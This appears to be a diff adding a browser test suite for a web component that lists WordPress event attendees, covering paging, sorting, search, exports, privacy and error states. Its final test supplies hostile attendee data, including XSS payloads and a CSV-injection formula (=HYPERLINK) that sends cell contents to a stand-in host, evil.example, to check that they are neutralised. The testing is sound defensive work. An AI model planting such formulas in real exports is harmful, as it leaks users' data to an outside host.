@@ -1,0 +1,566 @@
+// <event-attendee-list> against the reference API behind the real proxy (private routes behind a
+// bearer token, as a check-in desk uses it), and scripted servers for paging past 100, failures and
+// hostile data. Expectations come from the wire JSON the test reads itself, never from the element.
+import { expect, fixture, fixtureCleanup, html, oneEvent, waitUntil } from '@open-wc/testing';
+import { sendKeys } from '@web/test-runner-commands';
+import './event-attendee-list.js';
+import type { AttendeeSelectDetail, EventAttendeeList } from './event-attendee-list.js';
+import type { DownloadDetail } from '../../shared/staff/download.js';
+import { cacheForOrigin } from '../../api/cache.js';
+import { expectInert, expectLoadingSkeleton, part, parts, settled, text, xssPayloads } from '../../../test/helpers/element.js';
+import { proxiedServer, scriptedServer, type LoopbackServer, type Reply } from '../../../test/helpers/servers.js';
+
+const TOKEN = 'staff-token-for-attendee-tests-9876543210';
+const ATTENDEES = '/wp/v2/mep_event_attendee';
+
+/** One raw attendee post as the wire has it (the test's own reading, not the element's). */
+interface WireAttendee {
+  id: number;
+  date: string;
+  title: { rendered: string };
+  attendee_informations: Record<string, string[]>;
+}
+
+/** The test's own reading of a wire attendee: meta values as sent, entities decoded where the site encodes them. */
+interface Expected {
+  id: number;
+  name: string;
+  email: string;
+  phone: string;
+  eventId: number;
+  event: string;
+  ticketType: string;
+  /** `ea_event_date` as sent (`YYYY-MM-DD HH:MM:SS`). */
+  eventDate: string;
+  orderId: number;
+  checkedIn: boolean;
+}
+
+const decode = (value: string) => new DOMParser().parseFromString(value, 'text/html').documentElement.textContent ?? '';
+
+function read(wire: WireAttendee): Expected {
+  const meta = (key: string) => wire.attendee_informations[key]?.[0] ?? '';
+  return {
+    id: wire.id,
+    name: meta('ea_name'),
+    email: meta('ea_email'),
+    phone: meta('ea_phone'),
+    eventId: Number(meta('ea_event_id')),
+    event: decode(meta('ea_event_name')),
+    ticketType: meta('ea_ticket_type'),
+    eventDate: meta('ea_event_date'),
+    orderId: Number(meta('ea_order_id')),
+    checkedIn: ['yes', '1'].includes(meta('mep_checkin').toLowerCase()),
+  };
+}
+
+/** A CSV field as RFC 4180 and OWASP's CSV-injection advice want it (the test's own version). */
+const csvText = (value: string) => `"${(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value).replace(/"/g, '""')}"`;
+const fold = (value: string) => value.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
+
+function attendeeList(base: string, options: { eventId?: string; authorization?: string; perPage?: number; lang?: string } = {}) {
+  return fixture<EventAttendeeList>(
+    html`<event-attendee-list
+      base-url=${base}
+      event-id=${options.eventId ?? ''}
+      lang=${options.lang ?? 'en'}
+      .authorization=${options.authorization ?? ''}
+      .perPage=${options.perPage ?? 50}
+    ></event-attendee-list>`,
+  );
+}
+
+const rowNames = (el: Element) => parts(el, 'row').map((row) => text(row.querySelector('[data-column="name"]')));
+const totals = (el: Element) =>
+  Object.fromEntries([...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="totals"] dd')].map((dd) => [dd.dataset['total'], text(dd)]));
+const ticketTypes = (el: Element) =>
+  Object.fromEntries(
+    [...el.shadowRoot!.querySelectorAll<HTMLElement>('[part~="ticket-types"] tbody tr')].map((tr) => [tr.dataset['ticketType'], text(tr.querySelector('td'))]),
+  );
+
+/** Counts per ticket type, as the summary should show them. */
+function countsByType(rows: readonly Expected[]): Record<string, string> {
+  const counts: Record<string, number> = {};
+  for (const row of rows) counts[row.ticketType] = (counts[row.ticketType] ?? 0) + 1;
+  return Object.fromEntries(Object.entries(counts).map(([type, count]) => [type, String(count)]));
+}
+
+describe('<event-attendee-list> through the proxy', () => {
+  let proxy: LoopbackServer;
+  let base: string;
+  let all: Expected[];
+
+  before(async () => {
+    proxy = await proxiedServer({ token: TOKEN });
+    base = `${proxy.origin}/wp-json`;
+    // What the site holds, read page by page with the token (independently of the element).
+    all = [];
+    for (let page = 1; ; page++) {
+      const response = await fetch(`${base}${ATTENDEES}?per_page=100&page=${page}`, { headers: { Authorization: `Bearer ${TOKEN}` } });
+      expect(response.status).to.equal(200);
+      all.push(...((await response.json()) as WireAttendee[]).map(read));
+      if (page >= Number(response.headers.get('X-WP-TotalPages'))) break;
+    }
+  });
+  after(() => proxy.stop());
+  afterEach(() => fixtureCleanup());
+
+  /** Events by attendee count, the one with most check-ins first (ties: lower id). */
+  function events(): { eventId: number; rows: Expected[] }[] {
+    const groups = new Map<number, Expected[]>();
+    for (const row of all) groups.set(row.eventId, [...(groups.get(row.eventId) ?? []), row]);
+    const checkedIn = (rows: Expected[]) => rows.filter((row) => row.checkedIn).length;
+    return [...groups]
+      .map(([eventId, rows]) => ({ eventId, rows }))
+      .sort((a, b) => checkedIn(b.rows) - checkedIn(a.rows) || b.rows.length - a.rows.length || a.eventId - b.eventId);
+  }
+
+  const attendeeRequests = async () => (await proxy.requests()).filter((request) => request.path.endsWith(ATTENDEES));
+
+  it('shows a loading skeleton, then every attendee with counts (attendees, checked in, per ticket type) that match the site', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await expectLoadingSkeleton(el);
+    await settled(el);
+    expect(all.length).to.be.greaterThan(0);
+    expect(parts(el, 'row')).to.have.length(Math.min(50, all.length));
+    expect(rowNames(el)).to.deep.equal(all.slice(0, 50).map((row) => row.name));
+    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(50, all.length)} of ${all.length}`);
+    expect(totals(el)).to.deep.equal({ attendees: String(all.length), 'checked-in': String(all.filter((row) => row.checkedIn).length) });
+    expect(ticketTypes(el)).to.deep.equal(countsByType(all));
+    // The check-in cell says yes or no in words.
+    const first = parts(el, 'row')[0]!;
+    expect(text(first.querySelector('[data-column="checked-in"]'))).to.equal(all[0]!.checkedIn ? 'Yes' : 'No');
+    expect(text(first.querySelector('[data-column="event"]'))).to.equal(all[0]!.event);
+    expect(text(first.querySelector('[data-column="order-id"]'))).to.equal(String(all[0]!.orderId));
+    await expect(el).to.be.accessible();
+  });
+
+  it('event-id keeps only that event’s attendees and the summary follows, without asking the site again', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const requested = (await attendeeRequests()).length;
+    expect(requested).to.be.greaterThan(0);
+    const [busiest, other] = events();
+    expect(
+      busiest!.rows.some((row) => row.checkedIn),
+      'the seed has check-ins',
+    ).to.equal(true);
+    for (const { eventId, rows } of [busiest!, other!]) {
+      el.setAttribute('event-id', String(eventId));
+      await el.updateComplete;
+      expect(rowNames(el), `event ${eventId}`).to.deep.equal(rows.map((row) => row.name));
+      expect(el.allRows.map((row) => row.id)).to.deep.equal(rows.map((row) => row.id));
+      expect(totals(el)).to.deep.equal({ attendees: String(rows.length), 'checked-in': String(rows.filter((row) => row.checkedIn).length) });
+      expect(ticketTypes(el)).to.deep.equal(countsByType(rows));
+      expect(text(part(el, 'count'))).to.equal(`1–${rows.length} of ${rows.length}`);
+      expect(text(part(el, 'print-header'))).to.equal(`Attendee list — ${rows[0]!.event}`);
+      await expect(el).to.be.accessible();
+    }
+    el.eventId = '';
+    await el.updateComplete;
+    expect(totals(el)['attendees']).to.equal(String(all.length));
+    // An event nobody registered for: the empty state.
+    el.eventId = '999999';
+    await el.updateComplete;
+    expect(text(part(el, 'empty'))).to.equal('No attendees yet.');
+    await expect(el).to.be.accessible();
+    // Give a stray request time to arrive: none does, the filter works on what was read.
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    expect((await attendeeRequests()).length).to.equal(requested);
+  });
+
+  it('a new event-id starts on the first page', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 2 });
+    await settled(el);
+    el.page = 3;
+    await el.updateComplete;
+    expect(rowNames(el)).to.deep.equal(all.slice(4, 6).map((row) => row.name));
+    const { eventId, rows } = events()[0]!;
+    el.eventId = String(eventId);
+    await el.updateComplete;
+    expect(el.page).to.equal(1);
+    expect(rowNames(el)).to.deep.equal(rows.slice(0, 2).map((row) => row.name));
+  });
+
+  it('CSV: BOM, CRLF, quoted text, localized headers, yes/no for check-in, formula starts neutralised; JSON keyed by column', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const csv = el.toCsv();
+    const expected = [
+      '"Name","E-mail","Phone","Ticket type","Event","Event date","Order","Checked in"',
+      ...all.map((row) =>
+        [
+          csvText(row.name),
+          csvText(row.email),
+          csvText(row.phone),
+          csvText(row.ticketType),
+          csvText(row.event),
+          csvText(row.eventDate.replace(' ', 'T')),
+          String(row.orderId),
+          csvText(row.checkedIn ? 'Yes' : 'No'),
+        ].join(','),
+      ),
+    ];
+    expect(csv).to.equal(`\uFEFF${expected.join('\r\n')}\r\n`);
+    // The seed's phone numbers start with "+": a spreadsheet would read them as formulas.
+    expect(csv).to.match(/"'\+\d/);
+    // Both answers occur in the seed (past events are mostly checked in, upcoming ones not).
+    expect(csv).to.contain('"Yes"\r\n');
+    expect(csv).to.contain('"No"\r\n');
+    const json = JSON.parse(el.toJson()) as Record<string, unknown>[];
+    expect(json).to.deep.equal(
+      all.map((row) => ({
+        name: row.name,
+        email: row.email,
+        phone: row.phone,
+        'ticket-type': row.ticketType,
+        event: row.event,
+        'event-date': row.eventDate.replace(' ', 'T'),
+        'order-id': row.orderId,
+        'checked-in': row.checkedIn,
+      })),
+    );
+    // `columns` picks and orders what both exports hold.
+    el.columns = 'id checked-in name';
+    await el.updateComplete;
+    expect(el.toCsv().split('\r\n')[0]).to.equal('\uFEFF"Attendee id","Checked in","Name"');
+    expect(Object.keys((JSON.parse(el.toJson()) as Record<string, unknown>[])[0]!)).to.deep.equal(['id', 'checked-in', 'name']);
+  });
+
+  it('sorts by keyboard: Enter or Space on a column header sorts ascending, again descending, with aria-sort; ties keep the site’s order', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 100 });
+    await settled(el);
+    const header = (key: string) => el.shadowRoot!.querySelector<HTMLElement>(`th[data-column="${key}"]`)!;
+    const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
+    const stable = (compare: (a: Expected, b: Expected) => number) =>
+      all
+        .map((row, index) => ({ row, index }))
+        .sort((a, b) => compare(a.row, b.row) || a.index - b.index)
+        .map((entry) => entry.row.name);
+
+    header('name').querySelector('button')!.focus();
+    await sendKeys({ press: 'Enter' });
+    await el.updateComplete;
+    expect(header('name').getAttribute('aria-sort')).to.equal('ascending');
+    expect(rowNames(el)).to.deep.equal(stable((a, b) => collator.compare(a.name, b.name)));
+    await sendKeys({ press: 'Space' });
+    await el.updateComplete;
+    expect(header('name').getAttribute('aria-sort')).to.equal('descending');
+    expect(rowNames(el)).to.deep.equal(stable((a, b) => collator.compare(b.name, a.name)));
+    expect(el.sort).to.equal('-name');
+
+    // Orders as numbers; two attendees share each order, and stay in the site's order.
+    header('order-id').querySelector('button')!.focus();
+    await sendKeys({ press: 'Space' });
+    await el.updateComplete;
+    expect(header('order-id').getAttribute('aria-sort')).to.equal('ascending');
+    expect(header('name').hasAttribute('aria-sort')).to.equal(false);
+    expect(rowNames(el)).to.deep.equal(stable((a, b) => a.orderId - b.orderId));
+    await sendKeys({ press: 'Enter' });
+    await el.updateComplete;
+    expect(header('order-id').getAttribute('aria-sort')).to.equal('descending');
+    expect(rowNames(el)).to.deep.equal(stable((a, b) => b.orderId - a.orderId));
+    expect(el.shadowRoot!.querySelectorAll('th[aria-sort]')).to.have.length(1);
+    // The export follows the table's order.
+    expect(
+      el
+        .toCsv()
+        .split('\r\n')[1]!
+        .startsWith(csvText(stable((a, b) => b.orderId - a.orderId)[0]!)),
+    ).to.equal(true);
+    await expect(el).to.be.accessible();
+  });
+
+  it('searches the shown columns, accents and case ignored; the CSV holds the matches of every page', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, perPage: 3 });
+    await settled(el);
+    const target = all.find((row) => /[À-ž]/.test(row.name)) ?? all[0]!;
+    const word = target.name.split(' ').find((part) => /[À-ž]/.test(part)) ?? target.name.split(' ')[0]!;
+    const input = el.shadowRoot!.querySelector<HTMLInputElement>('input[type="search"]')!;
+    input.focus();
+    await sendKeys({ type: fold(word).toUpperCase() });
+    await el.updateComplete;
+    const expected = all.filter((row) =>
+      [row.name, row.email, row.phone, row.ticketType, row.event, String(row.orderId), row.checkedIn ? 'Yes' : 'No'].some((value) =>
+        fold(value).includes(fold(word)),
+      ),
+    );
+    expect(expected.length).to.be.greaterThan(0);
+    expect(el.search).to.equal(fold(word).toUpperCase());
+    expect(el.matchingRows.map((row) => row.id)).to.deep.equal(expected.map((row) => row.id));
+    expect(rowNames(el)).to.deep.equal(expected.slice(0, 3).map((row) => row.name));
+    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(3, expected.length)} of ${expected.length}`);
+    expect(el.toCsv().split('\r\n').length - 2).to.equal(expected.length);
+    // The summary still counts everyone: the search narrows the table, not the event.
+    expect(totals(el)['attendees']).to.equal(String(all.length));
+    await sendKeys({ type: 'zzzz-nobody' });
+    await el.updateComplete;
+    expect(text(part(el, 'count'))).to.equal(`No rows match “${fold(word).toUpperCase()}zzzz-nobody”.`);
+    expect(part(el, 'table')).to.equal(null);
+    await expect(el).to.be.accessible();
+  });
+
+  it('fires attendee-select from the name button (click or Enter) with the attendee', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const buttons = parts(el, 'row-button');
+    let picked = oneEvent(el, 'attendee-select');
+    buttons[0]!.click();
+    const first = ((await picked) as CustomEvent<AttendeeSelectDetail>).detail.attendee;
+    expect({ id: first.id, name: first.name, email: first.email, eventId: first.eventId, checkedIn: first.checkedIn }).to.deep.equal({
+      id: all[0]!.id,
+      name: all[0]!.name,
+      email: all[0]!.email,
+      eventId: all[0]!.eventId,
+      checkedIn: all[0]!.checkedIn,
+    });
+    picked = oneEvent(el, 'attendee-select');
+    buttons[1]!.focus();
+    await sendKeys({ press: 'Enter' });
+    expect(((await picked) as CustomEvent<AttendeeSelectDetail>).detail.attendee.id).to.equal(all[1]!.id);
+  });
+
+  it('download: a cancelable event with the file name, type and content, for the whole list and for one event', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    const downloads: DownloadDetail[] = [];
+    el.addEventListener('download', (event) => {
+      expect(event.cancelable).to.equal(true);
+      event.preventDefault();
+      downloads.push(event.detail);
+    });
+    part(el, 'download-csv')!.click();
+    part(el, 'download-json')!.click();
+    const { eventId } = events()[0]!;
+    el.eventId = String(eventId);
+    await el.updateComplete;
+    part(el, 'download-csv')!.click();
+    el.downloadJson();
+    expect(downloads.map((d) => [d.filename, d.type])).to.deep.equal([
+      ['attendees.csv', 'text/csv;charset=utf-8'],
+      ['attendees.json', 'application/json'],
+      [`attendees-event-${eventId}.csv`, 'text/csv;charset=utf-8'],
+      [`attendees-event-${eventId}.json`, 'application/json'],
+    ]);
+    expect(downloads[0]!.content.split('\r\n')).to.have.length(all.length + 2);
+    expect(downloads[2]!.content).to.equal(el.toCsv());
+    expect(downloads[3]!.content).to.equal(el.toJson());
+    // Canceled: no link was left behind for a browser download.
+    expect(el.shadowRoot!.querySelector('a[download]')).to.equal(null);
+  });
+
+  it('personal data stays private: no attribute, not in the shared cache or storage, dropped on removal', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}` });
+    await settled(el);
+    expect(el.hasAttribute('authorization')).to.equal(false);
+    expect(el.outerHTML).to.not.contain(TOKEN);
+    for (const attribute of el.attributes) {
+      for (const row of all) expect([row.name, row.email, row.phone], attribute.name).to.not.include(attribute.value);
+    }
+    expect(el.outerHTML).to.not.contain(all[0]!.email);
+    expect(el.allRows).to.have.length(all.length);
+    // The page-wide cache of the proxy's origin holds no attendees answer: asked anew, without the token, it is refused.
+    const cached = await cacheForOrigin(proxy.origin)
+      .get({ url: `${base}${ATTENDEES}?page=1&per_page=100`, ttlMs: 60_000 })
+      .catch((error: unknown) => error);
+    expect(cached).to.have.property('status', 401);
+    const stored = JSON.stringify(localStorage) + JSON.stringify(sessionStorage);
+    for (const row of all) expect(stored).to.not.contain(row.email);
+    el.remove();
+    expect(el.allRows).to.deep.equal([]);
+    expect(el.matchingRows).to.deep.equal([]);
+  });
+
+  it('without the token: "Sign in to see attendees.", no rows, no retry; setting authorization loads', async () => {
+    const el = await attendeeList(base, {});
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('sign-in');
+    expect(text(part(el, 'error-message'))).to.equal('Sign in to see attendees.');
+    expect(part(el, 'retry')).to.equal(null);
+    expect(part(el, 'table')).to.equal(null);
+    expect(el.allRows).to.deep.equal([]);
+    await expect(el).to.be.accessible();
+    el.authorization = `Bearer ${TOKEN}`;
+    await el.updateComplete;
+    await settled(el, ['list']);
+    expect(parts(el, 'row')).to.have.length(Math.min(50, all.length));
+    expect(totals(el)['attendees']).to.equal(String(all.length));
+  });
+
+  it('speaks German with lang="de": toolbar, summary, headers, yes/no, exports and the sign-in message', async () => {
+    const el = await attendeeList(base, { authorization: `Bearer ${TOKEN}`, lang: 'de' });
+    await settled(el);
+    expect(text(part(el, 'search'))).to.equal('Suchen');
+    expect(text(part(el, 'download-csv'))).to.equal('CSV herunterladen');
+    expect(text(part(el, 'download-json'))).to.equal('JSON herunterladen');
+    expect(text(part(el, 'print'))).to.equal('Drucken');
+    expect([...el.shadowRoot!.querySelectorAll('[part~="totals"] dt')].map(text)).to.deep.equal(['Teilnehmende', 'Eingecheckt']);
+    expect(text(el.shadowRoot!.querySelector('[part~="ticket-types"] caption'))).to.equal('Nach Ticketart');
+    expect(parts(el, 'sort-button').map(text)).to.deep.equal([
+      'Name↕',
+      'E-Mail↕',
+      'Telefon↕',
+      'Ticketart↕',
+      'Veranstaltung↕',
+      'Termin↕',
+      'Bestellung↕',
+      'Eingecheckt↕',
+    ]);
+    expect(text(part(el, 'count'))).to.equal(`1–${Math.min(50, all.length)} von ${all.length}`);
+    expect(text(parts(el, 'row')[0]!.querySelector('[data-column="checked-in"]'))).to.equal(all[0]!.checkedIn ? 'Ja' : 'Nein');
+    expect(el.toCsv().split('\r\n')[0]).to.equal('\uFEFF"Name","E-Mail","Telefon","Ticketart","Veranstaltung","Termin","Bestellung","Eingecheckt"');
+    expect(el.toCsv()).to.contain(all[0]!.checkedIn ? '"Ja"\r\n' : '"Nein"\r\n');
+    await expect(el).to.be.accessible();
+    el.authorization = '';
+    await el.updateComplete;
+    await settled(el, ['error']);
+    expect(text(part(el, 'error-message'))).to.equal('Melden Sie sich an, um die Teilnehmenden zu sehen.');
+    await expect(el).to.be.accessible();
+  });
+});
+
+describe('<event-attendee-list> paging, failures and hostile data', () => {
+  let server: LoopbackServer | undefined;
+  afterEach(async () => {
+    fixtureCleanup();
+    await server?.stop();
+    server = undefined;
+  });
+
+  /** A wire attendee with the plugin's meta keys. */
+  function wire(id: number, fields: Partial<Record<'name' | 'email' | 'phone' | 'event' | 'type' | 'checkin', string>> = {}): WireAttendee {
+    const name = fields.name ?? `Guest ${id}`;
+    return {
+      id,
+      date: '2026-11-01T10:00:00',
+      title: { rendered: name },
+      attendee_informations: {
+        ea_name: [name],
+        ea_email: [fields.email ?? `guest${id}@example.com`],
+        ea_phone: [fields.phone ?? `030 ${id}`],
+        ea_event_id: ['7'],
+        ea_event_name: [fields.event ?? 'Winter Gala'],
+        ea_ticket_type: [fields.type ?? (id % 2 ? 'VIP' : 'Standard')],
+        ea_event_date: ['2026-12-01 19:00:00'],
+        ea_order_id: [String(5000 + id)],
+        mep_checkin: [fields.checkin ?? (id % 3 === 0 ? 'yes' : 'no')],
+      },
+    };
+  }
+
+  async function scripted(status: number, body: unknown): Promise<string> {
+    server = await scriptedServer([{ status, body }]);
+    return `${server.origin}/wp-json`;
+  }
+
+  it('reads every page when more than 100 exist (X-WP-Total / X-WP-TotalPages), one after another; CSV holds every row', async () => {
+    const rows = Array.from({ length: 150 }, (_, index) => wire(1000 + index));
+    const paging = { 'X-WP-Total': '150', 'X-WP-TotalPages': '2' };
+    const page = (items: WireAttendee[]): Reply[] => [{ status: 200, headers: paging, body: items }];
+    server = await scriptedServer([{ status: 400, body: { code: 'rest_invalid_param', message: 'unexpected request', data: { status: 400 } } }], {
+      '?page=1&': page(rows.slice(0, 100)),
+      '?page=2&': page(rows.slice(100)),
+    });
+    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x', perPage: 200 });
+    await settled(el);
+    const requests = await server.requests();
+    expect(requests.map((r) => [r.path, r.search, r.authorization])).to.deep.equal([
+      [`/wp-json${ATTENDEES}`, '?page=1&per_page=100', true],
+      [`/wp-json${ATTENDEES}`, '?page=2&per_page=100', true],
+    ]);
+    expect(requests.map((r) => r.concurrent)).to.deep.equal([1, 1]);
+    expect(parts(el, 'row')).to.have.length(150);
+    expect(text(part(el, 'count'))).to.equal('1–150 of 150');
+    expect(part(el, 'truncated')).to.equal(null);
+    expect(totals(el)).to.deep.equal({ attendees: '150', 'checked-in': String(rows.filter((row) => row.id % 3 === 0).length) });
+    const csv = el.toCsv().split('\r\n');
+    expect(csv).to.have.length(152);
+    expect(csv[100]).to.contain('"Guest 1099"');
+    expect(csv[150]).to.contain('"Guest 1149"');
+    expect(JSON.parse(el.toJson())).to.have.length(150);
+    // The table's own paging over what was read: the last page holds the second request's rows.
+    el.perPage = 50;
+    el.page = 3;
+    await el.updateComplete;
+    expect(text(part(el, 'count'))).to.equal('101–150 of 150');
+    expect(rowNames(el)[0]).to.equal('Guest 1100');
+    expect(await server.requests()).to.have.length(2);
+  });
+
+  it('403 rest_forbidden: the sign-in state', async () => {
+    const el = await attendeeList(await scripted(403, { code: 'rest_forbidden', message: 'Sorry', data: { status: 403 } }), { authorization: 'Bearer x' });
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('sign-in');
+    expect(text(part(el, 'error-message'))).to.equal('Sign in to see attendees.');
+    expect(part(el, 'retry')).to.equal(null);
+    await expect(el).to.be.accessible();
+  });
+
+  it('an expired nonce says so; the nonce attribute goes out as X-WP-Nonce', async () => {
+    const base = await scripted(403, { code: 'rest_cookie_invalid_nonce', message: 'Cookie check failed', data: { status: 403 } });
+    const el = await fixture<EventAttendeeList>(html`<event-attendee-list base-url=${base} nonce="n0nce42" lang="en"></event-attendee-list>`);
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('expired');
+    expect(text(part(el, 'error-message'))).to.equal('Your WordPress session has expired. Reload the page and sign in again.');
+    expect(part(el, 'retry')).to.equal(null);
+    const [request] = await server!.requests();
+    expect(request!.path).to.equal(`/wp-json${ATTENDEES}`);
+    expect(request!.nonce).to.equal('n0nce42');
+    expect(request!.authorization).to.equal(false);
+    await expect(el).to.be.accessible();
+  });
+
+  it('rest_no_route (the free event plugin): the site does not publish attendees', async () => {
+    const el = await attendeeList(
+      await scripted(404, { code: 'rest_no_route', message: 'No route was found matching the URL and request method.', data: { status: 404 } }),
+      {
+        authorization: 'Bearer x',
+      },
+    );
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('unpublished');
+    expect(text(part(el, 'error-message'))).to.equal('This site does not publish attendees: its event plugin registers no attendee type.');
+    expect(part(el, 'retry')).to.equal(null);
+    await expect(el).to.be.accessible();
+  });
+
+  it('a dead endpoint: a network message with a Retry that loads again', async () => {
+    server = await scriptedServer([{ destroy: true }]);
+    const el = await attendeeList(`${server.origin}/wp-json`, { authorization: 'Bearer x' });
+    await settled(el);
+    expect(part(el, 'error')!.dataset['kind']).to.equal('other');
+    expect(text(part(el, 'error-message'))).to.equal('The site could not be reached. Check the connection and try again.');
+    await expect(el).to.be.accessible();
+    const before = (await server.requests()).length;
+    part(el, 'retry')!.click();
+    await el.updateComplete;
+    await waitUntil(async () => (await server!.requests()).length > before, 'the retry request');
+    await settled(el, ['error']);
+    expect(text(part(el, 'error-message'))).to.equal('The site could not be reached. Check the connection and try again.');
+  });
+
+  it('hostile names render as text; quotes, commas and formula starts are safe in the CSV', async () => {
+    const payloads = xssPayloads('__attendeeXss');
+    const rows = payloads.map((name, index) =>
+      wire(900 + index, {
+        name,
+        email: `=HYPERLINK("http://evil.example/?"&A1,"x${index}")`,
+        phone: '@SUM(1+1)',
+        event: `Gala "Noël", <b>2026</b>`,
+        type: '-VIP',
+      }),
+    );
+    const el = await attendeeList(await scripted(200, rows), { authorization: 'Bearer x', perPage: 100 });
+    await settled(el);
+    expect(parts(el, 'row')).to.have.length(payloads.length);
+    expectInert(el, '__attendeeXss');
+    const lines = el.toCsv().split('\r\n');
+    for (const line of lines.slice(1, -1)) {
+      const cells = line.match(/"(?:[^"]|"")*"|[^,]+/g)!;
+      expect(cells, line).to.have.length(8);
+      for (const cell of cells) if (cell.startsWith('"')) expect(cell[1], line).to.not.match(/[=+\-@\t\r]/);
+    }
+    expect(lines[1]).to.contain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x0"")","'@SUM(1+1)","'-VIP","Gala ""Noël"", 2026"`);
+    await expect(el).to.be.accessible();
+  });
+});
